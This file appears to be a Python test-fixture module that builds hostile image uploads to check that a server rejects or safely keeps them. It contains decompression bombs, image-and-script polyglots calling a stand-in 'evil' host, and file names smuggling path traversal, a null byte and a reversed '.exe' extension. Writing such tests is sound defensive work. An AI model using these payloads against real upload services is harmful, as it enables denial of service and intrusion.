"""Uploads that are not what they seem, each made here from nothing: what is sent, and which answer is right."""

import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image

from tests.modules.citizen import pictures

KEPT = "kept"
CANARY = b"CANARY-IN-THE-FILE"


@dataclass(frozen=True)
class Upload:
    """One file with the name it claims; the status it deserves, and a word that the answer must hold."""

    raw: bytes
    status: int
    says: str = ""
    filename: str = "anh.jpg"
    declared: str = "image/jpeg"


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with(*chunks):
    good = pictures.picture((16, 16), fmt="PNG")
    return good[:33] + b"".join(chunks) + good[33:]


def segment(kind, body):
    return bytes((0xFF, kind)) + struct.pack(">H", len(body) + 2) + body


def jpeg_with(*segments):
    good = pictures.picture((64, 48))
    return good[:2] + b"".join(segments) + good[2:]


def moving(fmt):
    frames = [Image.new("RGB", (24, 24), (shade, 0, 0)) for shade in (0, 120, 240)]
    out = io.BytesIO()
    frames[0].save(out, fmt, save_all=True, append_images=frames[1:], duration=40)
    return out.getvalue()


def iccp_bomb():
    body = b"profile\0\0" + zlib.compress(bytes(300_000_000), 9)
    return png_with(chunk(b"iCCP", body))


def itxt_bomb():
    body = b"Comment\0\1\0\0\0" + zlib.compress(bytes(120_000_000), 9)
    return png_with(chunk(b"iTXt", body))


def idat_bomb():
    """Rows for a hundred times the size that the head claims."""
    head = struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(200_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def sixteen_bit():
    out = io.BytesIO()
    Image.frombytes("I;16", (32, 32), bytes(range(256)) * 8).save(out, "PNG")
    return out.getvalue()


NOT = "không phải ảnh"
UNREAD = "Không đọc được ảnh"
PIXELS = "điểm ảnh"


def uploads():
    """Name -> upload."""
    plain, gps = pictures.picture(), pictures.with_gps()
    gif = pictures.picture((8, 8), fmt="GIF")
    script = b"<script>fetch('//evil')</script>" + CANARY
    return {
        # too much in too little
        "png 65000 x 65000": Upload(pictures.png_claiming(65_000, 65_000), 413, PIXELS),
        "jpeg 200 megapixels": Upload(pictures.jpeg_claiming(20_000, 10_000), 413, PIXELS),
        "jpeg 60000 x 10": Upload(pictures.jpeg_claiming(60_000, 10), 413, PIXELS),
        "webp 20 megapixels": Upload(pictures.bombs()["webp_large"], 413, PIXELS, "a.webp", "image/webp"),
        "zTXt bomb": Upload(pictures.png_text_bomb(), 422, UNREAD),
        "iTXt bomb": Upload(itxt_bomb(), 422, UNREAD),
        "iCCP bomb": Upload(iccp_bomb(), 422, UNREAD),
        "rows beyond the head": Upload(idat_bomb(), 201, KEPT),
        "huge head, no rows": Upload(pictures.png_claiming(6000, 6000), 422, UNREAD),
        # broken
        "zero bytes with a name": Upload(b"", 415, NOT),
        "cut jpeg": Upload(pictures.broken_pictures()["cut_jpeg"], 422, UNREAD),
        "cut png": Upload(pictures.broken_pictures()["cut_png"], 422, UNREAD),
        "magic only": Upload(b"\xff\xd8\xff\xe0", 422, UNREAD),
        "wrong checksums": Upload(png_with(b"\0\0\0\4tEXtAAAA\0\0\0\0"), 422, UNREAD),
        # two things at once
        "gif and script": Upload(b"GIF89a/*" + gif[6:] + b"*/=1;" + script, 415, NOT, "a.gif", "image/gif"),
        "jpeg and html": Upload(plain + script, 201, KEPT, "a.html", "text/html"),
        "jpeg with html in its comment": Upload(jpeg_with(segment(0xFE, script)), 201, KEPT, "a.jpg.html"),
        "pdf and jpeg": Upload(b"%PDF-1.7\n" + plain, 415, NOT, "a.pdf", "application/pdf"),
        "jpeg and zip": Upload(plain + b"PK\x03\x04" + CANARY, 201, KEPT, "a.zip", "application/zip"),
        # no picture of ours
        "svg": Upload(pictures.not_pictures()["svg"], 415, NOT, "a.svg", "image/svg+xml"),
        "html named jpg": Upload(b"<!doctype html>" + script, 415, NOT),
        "program named jpg": Upload(b"MZ" + bytes(400), 415, NOT),
        "heic": Upload(pictures.not_pictures()["heic"], 415, NOT, "a.heic", "image/heic"),
        "avif": Upload(bytes(4) + b"ftypavif" + bytes(64), 415, NOT, "a.avif", "image/avif"),
        "tiff": Upload(pictures.picture((4, 4), fmt="TIFF"), 415, NOT),
        "bmp": Upload(pictures.picture((4, 4), fmt="BMP"), 415, NOT),
        "ico": Upload(pictures.picture((16, 16), fmt="ICO"), 415, NOT),
        "moving gif": Upload(moving("GIF"), 415, NOT),
        # pictures with more than pixels
        "place and camera": Upload(gps, 201, KEPT),
        "colour profile": Upload(pictures.picture(icc_profile=CANARY + bytes(2000)), 201, KEPT),
        "xmp": Upload(jpeg_with(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY)), 201, KEPT),
        "four inks": Upload(pictures.picture((60, 40), mode="CMYK"), 201, KEPT),
        "sixteen bits": Upload(sixteen_bit(), 201, KEPT),
        "moving png": Upload(moving("PNG"), 201, KEPT, "a.png", "image/png"),
        "moving webp": Upload(moving("WEBP"), 201, KEPT, "a.webp", "image/webp"),
        # names
        "name of 4000 letters": Upload(plain, 201, KEPT, "a" * 4000 + ".jpg"),
        "a path in the name": Upload(plain, 201, KEPT, "../../../etc/cron.d/x.jpg"),
        "a null byte in the name": Upload(plain, 201, KEPT, "a.php%00.jpg"),
        "a name that runs backwards": Upload(plain, 201, KEPT, "anh\u202egpj.exe"),
    }
